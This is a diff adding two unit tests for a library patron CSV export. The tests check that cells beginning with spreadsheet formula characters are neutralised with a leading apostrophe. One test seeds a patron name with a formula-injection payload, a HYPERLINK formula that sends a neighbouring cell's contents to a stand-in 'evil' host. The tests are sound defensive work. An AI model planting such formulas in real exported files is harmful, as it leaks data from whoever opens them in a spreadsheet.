@@ -90,6 +90,26 @@ class ExamplesTest {
   }
 
   @Test
+  void patronExportNeutralisesWhatPatronsTypedAsFormulas(@TempDir Path dir) throws Exception {
+    Path csv = dir.resolve("patrons.csv");
+    try (Target target = Target.forSandbox()) {
+      target.sandbox().libib().addPatrons(dev.apiclients.libib.PatronFields.builder()
+          .firstName("=HYPERLINK(\"http://evil/?\"&B2)").lastName("@SUM(1+1)").phone("+1 555 0100").build());
+      PatronExport.run(target, csv, out, new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8), false);
+    }
+
+    List<String> lines = Files.readAllLines(csv);
+    assertThat(lines.get(lines.size() - 1))
+        .contains(",\"'=HYPERLINK(\"\"http://evil/?\"\"&B2)\",'@SUM(1+1),").contains(",'+1 555 0100,");
+  }
+
+  @Test
+  void csvNeutralisesCellsASpreadsheetWouldRun() {
+    assertThat(Csv.line(java.util.Arrays.asList("=1+1", "+cmd", "-2", "@SUM(A1)", "\tx", "\ry", "a=b", -3)))
+        .isEqualTo("'=1+1,'+cmd,'-2,'@SUM(A1),'\tx,\"'\ry\",a=b,'-3");
+  }
+
+  @Test
   void csvQuotesFieldsThatNeedIt() {
     assertThat(Csv.line(java.util.Arrays.asList("plain", "a,b", "say \"hi\"", "two\nlines", null, " padded")))
         .isEqualTo("plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",,\" padded\"");
